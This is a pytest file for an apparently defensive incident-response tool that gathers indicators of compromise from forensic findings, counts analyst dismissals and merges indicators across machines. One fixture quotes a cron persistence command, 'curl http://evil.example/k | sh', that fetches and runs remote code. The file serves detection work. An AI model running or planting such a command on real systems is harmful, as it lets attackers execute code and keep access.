from __future__ import annotations

from dataclasses import replace

import pytest

from logged import at, file, finding, machine
from pratique.model import Window
from pratique.story.examination import State
from pratique.story.indicator import gathering
from pratique.story.indicator.gathering import Gathered, gathered, together
from pratique.story.indicator.indicator import Because, Kind, Rule
from pratique.story.story import Story
from pratique.story.verdict import FileVerdict
from shareable import one

SHA = "ab" * 32
CRON = replace(
    finding("/etc/cron.d/x", "persistence-cron-fetches-code", number=2),
    quote="curl http://evil.example/k | sh",
    window=Window(None, at("2026-11-03 02:20:00"), ("ctime",)),
)
ROWS = (
    file("/srv/x.php", "2026-11-03 02:20:00", sha256=SHA),
    FileVerdict("/srv/x.php", "malicious", 0.9, ("F-000001",), SHA, 100, ""),
)


def test_all_of_a_machine_in_the_order_of_the_kinds():
    said = gathered(machine(*ROWS), [finding("/srv/x.php"), CRON], Story(State.COMPROMISED,
                    Window(None, None, ())))  # fmt: skip
    assert [each.kind for each in said.indicators] == [
        Kind.SHA256, Kind.DOMAIN, Kind.URL, Kind.PATH, Kind.COMMAND,
    ]  # fmt: skip
    [url] = [each for each in said.indicators if each.kind is Kind.URL]
    assert (url.first, url.basis) == (at("2026-11-03 02:20:00"), "ctime")


@pytest.mark.parametrize("state", ["innocent", "accepted"])
def test_what_a_person_has_judged_gives_nothing_and_is_counted(state):
    judged = [replace(each, state=state) for each in (finding("/srv/x.php"), CRON)]
    said = gathered(machine(*ROWS), judged, None)
    assert (said.indicators, said.dismissed) == ((), 2)


@pytest.mark.parametrize("state", ["open", "malicious", "reopened"])
def test_every_other_state_counts(state):
    said = gathered(machine(), [replace(CRON, state=state)], None)
    assert said.indicators


def test_the_same_of_two_machines_is_one_with_all_that_it_rests_on():
    first = one(Kind.ADDRESS, "203.0.113.66", rule=Rule.LEADS, findings=("F-1",), confidence=0.5)
    second = replace(first, rule=Rule.ENTRY, findings=("F-2",), confidence=0.9, first=at(
        "2026-01-01 00:00:00"), basis="log")  # fmt: skip
    [both] = together([Gathered((first,), {Because.OWN: 1}), Gathered((second,), {Because.OWN: 2})
                       ]).indicators  # fmt: skip
    assert both.rules == (Rule.ENTRY, Rule.LEADS)
    assert both.findings == ("F-2", "F-1")
    assert (both.first, both.basis, both.confidence) == (at("2026-01-01 00:00:00"), "log", 0.9)


def test_counts_of_two_machines_add_up():
    parts = [Gathered((), {Because.OWN: 1}, 1), Gathered((), {Because.OWN: 2}, 2)]
    said = together(parts)
    assert (said.left_out, said.dismissed) == ({Because.OWN: 3}, 3)


def test_what_is_too_much_is_counted(monkeypatch):
    monkeypatch.setattr(gathering, "MOST", 3)
    many = tuple(one(Kind.PATH, f"/srv/{n}") for n in range(5))
    said = together([Gathered(many)])
    assert len(said.indicators) == 3
    assert said.left_out == {Because.TOO_MANY: 2}
